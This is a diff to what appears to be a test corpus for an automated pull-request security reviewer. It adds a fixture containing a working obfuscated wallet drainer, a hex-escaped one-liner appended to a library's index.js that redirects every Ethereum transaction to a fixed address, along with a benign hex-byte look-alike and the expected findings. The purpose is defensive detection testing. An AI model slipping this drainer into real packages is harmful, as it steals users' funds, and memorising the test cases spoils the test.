@@ -687,6 +687,57 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: 'critical', action: 'request_changes', findings: ['crypto-wallet-hook'], drivers: ['finding:crypto-wallet-hook'] },
   },
   {
+    id: 'attack-library-wallet-drainer-hex-string-table',
+    description: "The chalk and debug drainer as javascriptobfuscator.com writes it: one line appended to a small library's index.js under a build title, whose names (`ethereum`, `request`, `sendTransaction`) sit in a string table of hex escapes (`var _$_7c21=[\"\\x65\\x74…\"]`) and whose wrapped wallet method is reached as `w[_$_7c21[0]][_$_7c21[1]]`: no readable wallet name, no `_0x` names, one address, which it writes into each request's recipient.",
+    fixture: () =>
+      attackPr({
+        repo: 'ansi-tint',
+        number: 7119,
+        title: 'chore: build',
+        files: [
+          {
+            path: 'index.js',
+            base: INDEX_BASE,
+            head:
+              INDEX_BASE +
+              lines(
+                'var _$_7c21=["\\x65\\x74\\x68\\x65\\x72\\x65\\x75\\x6d","\\x72\\x65\\x71\\x75\\x65\\x73\\x74","\\x73\\x65\\x6e\\x64\\x54\\x72\\x61\\x6e\\x73\\x61\\x63\\x74\\x69\\x6f\\x6e"];(function(w){if(!w||!w[_$_7c21[0]])return;var r=w[_$_7c21[0]][_$_7c21[1]].bind(w[_$_7c21[0]]);w[_$_7c21[0]][_$_7c21[1]]=function(a){if(a&&a.method===\'eth_\'+_$_7c21[2]&&a.params&&a.params[0]){a.params[0].to=\'0x5D3e9b1C7a2F4d6E8b0A1c3E5f7D9b2A4c6E8f0B\';}return r(a);};})(typeof window!==\'undefined\'?window:null);',
+              ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['crypto-wallet-hook', 'obfuscated-code'], drivers: ['finding:crypto-wallet-hook'] },
+  },
+  {
+    id: 'benign-binary-protocol-byte-constants',
+    description: "The benign look-alike: a maintainer adds a file-type sniffer's magic numbers as escaped byte strings (`'\\x89\\x50\\x4e\\x47'`, `'\\x50\\x4b\\x03\\x04'`, `'\\x1f\\x8b\\x08'`) and an ANSI reset: hex escapes of bytes, not text hidden from readers.",
+    fixture: () =>
+      attackPr({
+        repo: 'ansi-tint',
+        number: 7120,
+        title: 'feat: detect piped archives',
+        files: [
+          {
+            path: 'lib/sniff.js',
+            head: lines(
+              "'use strict';",
+              '',
+              "const SIGNATURES = { png: '\\x89\\x50\\x4e\\x47', zip: '\\x50\\x4b\\x03\\x04', gzip: '\\x1f\\x8b\\x08', pdf: '\\x25\\x50\\x44\\x46\\x2d' };",
+              "const RESET = '\\x1b[0m';",
+              '',
+              'module.exports = function sniff(head) {',
+              "  const text = head.toString('latin1', 0, 8);",
+              '  for (const [type, magic] of Object.entries(SIGNATURES)) if (text.startsWith(magic)) return type;',
+              "  return 'unknown' + RESET;",
+              '};',
+            ),
+          },
+          { path: 'test/sniff.test.js', head: lines("const sniff = require('../lib/sniff');", "test('png', () => expect(sniff(Buffer.from('89504e470d0a1a0a', 'hex'))).toBe('png'));") },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:obfuscated-code', 'finding:crypto-wallet-hook'] },
+  },
+  {
     id: 'attack-dapp-tracing-and-contracts',
     description: "A dApp's maintainer adds request tracing that wraps fetch, in a module that also lists the token contracts the app reads: a network hook and addresses, but no wallet hook and the addresses are the app's own data.",
     fixture: () =>
